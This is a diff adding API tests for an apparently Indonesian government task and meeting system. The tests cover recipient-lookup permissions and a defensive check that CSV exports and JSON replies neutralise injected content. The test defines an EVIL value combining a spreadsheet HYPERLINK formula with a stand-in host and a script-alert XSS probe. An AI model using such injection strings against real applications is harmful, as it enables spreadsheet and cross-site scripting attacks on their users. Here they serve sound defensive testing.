@@ -195,6 +195,63 @@ describe('a document', () => {
   });
 });
 
+describe('whom one may look up', () => {
+  const named = async (c: Client, name: string) => ok(await c.get(`/api/v1/tasks/recipients?query=${encodeURIComponent(name)}`)).items as any[];
+  const part = (full: string) => full.split(' ').sort((a, b) => b.length - a.length)[0]!.replace(/[.,]/g, '');
+
+  it('is who stands along a line of the rules, no directory of the agency', async () => {
+    const { items, is_head } = ok(await worker.get('/api/v1/tasks/recipients'));
+    expect([is_head, items.map((x: any) => x.via).filter((v: string) => !['peer', 'superior', 'team', 'line'].includes(v))]).toEqual([false, []]);
+    expect(items.find((x: any) => x.employee === who.boss.employee).via).toBe('superior');
+    const listed = items.map((x: any) => x.employee);
+    for (const name of ['siti', 'dewi', 'ahmad', 'nur', part(who.kadis.full_name)])
+      expect((await named(worker, name)).map(x => x.employee).filter(x => !listed.includes(x)), name).toEqual([]);
+    expect(await named(stranger, part(who.worker.full_name))).not.toContainEqual(expect.objectContaining({ employee: who.worker.employee }));
+    expect(await named(worker, '%%%')).toEqual([]);
+  });
+  it('of a head also anybody in his units and below', async () => {
+    expect(await named(kadis, part(who.worker.full_name))).toContainEqual(expect.objectContaining({ employee: who.worker.employee, via: 'unit' }));
+    expect(await named(sekda, part(who.worker.full_name))).not.toContainEqual(expect.objectContaining({ employee: who.worker.employee }));
+  });
+  it('holds for who is asked and who is invited', async () => {
+    const check = (c: Client, employee: string) => c.post('/api/v1/tasks/checks', { title: 'Draf', reference: '065/3', lines: [{ text: 'Substansi', employee }] });
+    const meeting = (c: Client, employee: string) => c.post('/api/v1/meetings', { title: 'Rapat kecil', place: 'Aula', starts_at: '2025-11-20T02:00:00.000Z', ends_at: '2025-11-20T03:00:00.000Z', employees: [employee] });
+    for (const ask of [check, meeting]) {
+      const far = await ask(worker, who.kadis.employee);
+      expect([far.status, far.body.reason]).toEqual([422, 'works in another unit: choose the unit, its head decides who']);
+      expect((await ask(worker, who.worker.employee)).body.code).toBe('not_on_oneself');
+      ok(await ask(worker, who.boss.employee));
+      ok(await ask(kadis, who.worker.employee));
+      expect((await ask(sekda, who.worker.employee)).status).toBe(422);
+    }
+  });
+});
+
+describe('what people write', () => {
+  const EVIL = '=HYPERLINK("http://x.id?"&A1;"klik")<script>alert(1)</script>';
+
+  it('leaves as text: no cell of any export is a formula, and no reply is a page', async () => {
+    const file = ok(await worker.post('/api/v1/files', Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n% lain\n'), { 'content-type': 'application/octet-stream' })).sha256;
+    const sent = ok(await boss.post('/api/v1/tasks', { kind: 'disposition', subject: EVIL, body: EVIL, employee: who.worker.employee, letter_number: `+${EVIL}`, letter_link: 'https://x.id/=1+1' })).task;
+    ok(await worker.post(`/api/v1/tasks/${sent}/note`, { note: `-${EVIL}` }));
+    const check = ok(await worker.post('/api/v1/tasks/checks', { title: EVIL, reference: `@${EVIL}`, link: 'https://x.id/@a', file_sha256: file, file_name: `${EVIL}.pdf`, lines: [{ text: EVIL, employee: who.boss.employee }] })).check;
+    ok(await boss.post(`/api/v1/tasks/checks/${check}/decide`, { line: 1, version: 1, accept: false, note: EVIL }));
+    const meeting = ok(await boss.post('/api/v1/meetings', { title: EVIL, agenda: EVIL, place: `\t${EVIL}`, link: 'https://x.id/r', letter_number: `-${EVIL}`, starts_at: '2025-11-13T00:10:00.000Z', ends_at: '2025-11-13T02:00:00.000Z', employees: [who.worker.employee] })).meeting;
+    ok(await boss.put(`/api/v1/meetings/${meeting}/minutes`, { version: 1, minutes: EVIL, decisions: [{ text: EVIL }] }));
+    const made = ok(await boss.post(`/api/v1/meetings/${meeting}/task`, { decision: 1, employee: who.worker.employee })).task;
+    for (const [c, path, holds] of [[worker, '/api/v1/tasks/inbox?', true], [boss, '/api/v1/tasks?', true], [kadis, `/api/v1/tasks/units/${division}?`, true], [worker, '/api/v1/tasks/checks?', true], [worker, '/api/v1/meetings?', true], [worker, `/api/v1/meetings/${meeting}/attendance?`, false], [kadis, `/api/v1/tasks/backlog?unit=${agency}&`, false]] as const) {
+      const csv = (await c.get(`${path}format=csv`)).text, cells = csv.replace(/^\uFEFF/, '').split(/[;\r\n]+"?/);
+      expect(csv.includes('HYPERLINK'), path).toBe(holds);
+      expect(cells.filter(x => /^[=+@\t]|^-[^0-9]/.test(x.replace(/^"/, ''))), path).toEqual([]);
+    }
+    for (const [c, path] of [[worker, `/api/v1/tasks/${sent}`], [worker, `/api/v1/tasks/${made}`], [boss, `/api/v1/tasks/checks/${check}`], [boss, `/api/v1/meetings/${meeting}`]] as const) {
+      const r = await c.get(path);
+      expect([r.headers.get('content-type'), r.headers.get('x-content-type-options')]).toEqual([expect.stringMatching(/^application\/json/), 'nosniff']);
+      expect(JSON.stringify(r.body)).toContain('<script>alert(1)</script>');
+    }
+  });
+});
+
 describe('the backlog', () => {
   it('is of units and all below them, opens to the tasks behind it without a name, and is counted right', async () => {
     const government = ok(await bkd.get('/api/v1/tasks/backlog')), sum = (key: string) => government.items.reduce((n: number, u: any) => n + u[key], 0);
